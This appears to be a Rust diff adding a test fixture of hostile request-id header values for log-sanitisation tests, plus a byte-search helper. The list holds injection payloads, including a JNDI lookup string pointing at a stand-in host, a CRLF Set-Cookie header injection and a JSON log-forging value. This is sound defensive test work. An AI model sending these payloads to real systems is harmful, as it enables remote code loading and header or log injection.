@@ -253,3 +253,49 @@ pub fn by_request_id(lines: &[Value]) -> HashMap<String, Vec<Value>> {
     }
     map
 }
+
+/// Raw `x-request-id` values a client might send, none of which may be
+/// trusted: one list for every hostile-input test.
+pub fn hostile_ids() -> Vec<(&'static str, Vec<u8>)> {
+    vec![
+        ("empty", b"".to_vec()),
+        ("spaces", b"    ".to_vec()),
+        ("inner space", b"abc def-space".to_vec()),
+        ("quote", b"abc\"def-quote".to_vec()),
+        ("backslash", b"abc\\def-backslash".to_vec()),
+        ("tab", b"abc\tdef-tab".to_vec()),
+        ("cr", b"abc\rdef-cr".to_vec()),
+        ("nul", b"abc\0def-nul".to_vec()),
+        ("esc ansi", b"abc\x1b[2Jdef-esc".to_vec()),
+        ("bel", b"abc\x07def-bel".to_vec()),
+        ("del", b"abc\x7fdef-del".to_vec()),
+        ("c1 controls", b"abc\xc2\x85\xc2\x9bdef-c1".to_vec()),
+        ("raw c1 bytes", b"abc\x85\x9bdef-c1raw".to_vec()),
+        ("percent crlf", b"abc%0d%0aSet-Cookie:%20x=1".to_vec()),
+        (
+            "non-ascii utf8",
+            "\u{ef}d-\u{fc}-nonascii".as_bytes().to_vec(),
+        ),
+        ("bidi override", "abc\u{202e}fed-bidi".as_bytes().to_vec()),
+        ("line separator", "abc\u{2028}def-ls".as_bytes().to_vec()),
+        ("zero width", "abc\u{200b}def-zw".as_bytes().to_vec()),
+        ("bom", "\u{feff}abc-bom".as_bytes().to_vec()),
+        ("homoglyph", "\u{430}bc-homoglyph".as_bytes().to_vec()), // Cyrillic a
+        ("invalid utf8", b"abc\xff\xfe\xfddef-bad-utf8".to_vec()),
+        (
+            "json breaker",
+            br#"x","level":"ERROR","message":"pwned-json"#.to_vec(),
+        ),
+        ("jndi", b"${jndi:ldap://evil.example/a}".to_vec()),
+        ("format strings", b"%s%n%x{}{0}-fmt".to_vec()),
+        ("129 bytes", vec![b'a'; 129]),
+        ("8 KiB", vec![b'k'; 8 * 1024]),
+        ("300 KB", vec![b'm'; 300 * 1000]),
+    ]
+}
+
+/// Whether `needle` occurs in `haystack`. An empty needle is never found:
+/// callers asking whether a value leaked skip values too short to tell.
+pub fn contains(haystack: &[u8], needle: &[u8]) -> bool {
+    !needle.is_empty() && haystack.windows(needle.len()).any(|w| w == needle)
+}
